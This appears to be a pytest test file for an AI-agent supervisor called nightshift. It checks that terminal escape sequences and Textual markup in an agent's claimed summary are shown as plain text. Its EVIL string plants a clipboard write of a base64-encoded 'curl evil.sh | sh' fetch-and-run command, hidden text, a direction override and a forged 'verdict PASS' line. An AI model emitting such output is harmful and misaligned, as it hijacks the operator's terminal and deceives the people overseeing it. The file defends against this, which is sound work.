"""Issue 38: what the agent leaves is shown as text. A scripted command agent (init defaults) claims done with a
summary full of terminal escapes (OSC 52 clipboard, OSC 0 title, OSC 8 link, cursor-up + erase-line, ESC[8m
hidden text, a bare carriage return, a direction override) and a forged line; `nightshift log` and `status` print
none of it as bytes a terminal acts on, and no forged line. The TUI's start-run form shows a preflight line with
Textual markup in it (`[/]`, an `[@click=...]` action) as text: no MarkupError, no live action.
"""
from __future__ import annotations

import sys

from nightshift.supervisor.cli.demo import build_workspace
from nightshift.supervisor.cli.tui_seams import preflight
from nightshift.supervisor.run.shown import plain
from tests.fixtures_core import nightshift, require_tool, workspace  # noqa: F401
from tests.fixtures_namespace import need_namespace, run_until_it_rests
from tests.fixtures_tui import fixed_clock, tui_home  # noqa: F401 - pytest fixture
from tests.test_tui_preflight import failing_preflight_in_start_form
from nightshift.tui.app import make_app
from nightshift.tui.seams import Seams

EVIL = ("fixed\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \x1b]0;owned\x07 \x1b]8;;http://evil/\x1b\\link\x1b]8;;\x1b\\"
        " \x1b[1A\x1b[2K \x1b[8mhidden \rVERIFIED \u202eenod\nverdict PASS: forged line")


def test_every_byte_the_agent_wrote_reaches_the_terminal_as_text(workspace):
    need_namespace()
    workspace.configure({"default": [["write", "check.txt", "ok"], ["claim", "done", EVIL]]}, backend="local",
                        pushbacks=1, max_shifts=1)
    run = workspace.create_run()
    run_until_it_rests(workspace, run)
    for verb in (["log", run.run_id], ["status", run.run_id]):
        out = nightshift(*verb, cwd=workspace.path)
        printed = out.stdout + out.stderr
        assert "\x1b" not in printed and "\x07" not in printed and "\r" not in printed and "\u202e" not in printed
        assert not any(line.startswith("verdict PASS: forged") for line in printed.splitlines()), printed
    log = nightshift("log", run.run_id, cwd=workspace.path).stdout
    assert "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07" in log and "\\x0averdict PASS: forged line" in log


def test_plain_shows_every_control_and_keeps_text_and_tabs():
    assert plain("a\tb\nc") == "a\tb\nc"
    assert plain("a\nb", one_line=True) == "a\\x0ab"
    assert plain("\x1b[31mred\x9b2J\x7f\u2066") == "\\x1b[31mred\\x9b2J\\x7f\\u2066"
    assert plain("ünïcode π ✓") == "ünïcode π ✓"


async def test_the_start_form_shows_markup_and_escapes_from_the_workspace_as_text(tui_home, tmp_path):
    require_tool("git")
    ws = build_workspace(tmp_path / "demo")
    toml = ws / "nightshift.toml"
    toml.write_text(toml.read_text().replace(f'command = "{sys.executable} solver.py"',
                                             'command = "pyhton [/] [@click=app.quit] \\u001b]0;owned\\u0007 x"'))
    seams = Seams(preflight=preflight, start_run=lambda path, checked=None: None)
    app = make_app(clock=fixed_clock, live=False, seams=seams)
    async with app.run_test(size=(130, 50)) as pilot:
        shown = await failing_preflight_in_start_form(app, pilot, ws)
        assert "[/] [@click=app.quit] \\x1b]0;owned\\x07" in shown() and "\x1b" not in shown()
        await pilot.click("#preflight")  # a live [@click=app.quit] would end the app here
        assert app.is_running and app.screen.__class__.__name__ == "StartRunScreen"


def test_the_events_tab_line_of_an_agents_claim_holds_no_escape_of_the_agents():
    from nightshift.tui.widgets.events_view import TYPE_STYLES, event_line
    event = {"seq": 7, "ts": "2026-11-26T10:00:00.000000Z", "type": "agent.stopped", "shift": 1,
             "data": {"reason": "exit", "claim": {"status": "done", "summary": EVIL}}}
    odd = {"seq": 8, "ts": "2026-11-26T10:00:01.000000Z", "type": "lane.\x1b[8mhidden", "data": {"x": "\x1b]0;t\x07"}}
    for line in (event_line(event), event_line(odd)):
        text = line.plain
        assert "\x1b" not in text and "\x07" not in text and "\r" not in text and "\n" not in text, text
        assert {str(span.style) for span in line.spans} <= {"dim", *TYPE_STYLES.values()}  # ours, none parsed
    assert "\\x1b]52;c;" in event_line(event).plain
    markup = {**event, "data": {"reason": "exit", "claim": {"status": "done", "summary": "[bold red]ok[/] [@click=app.quit]"}}}
    assert "[bold red]ok[/] [@click=app.quit]" in event_line(markup).plain
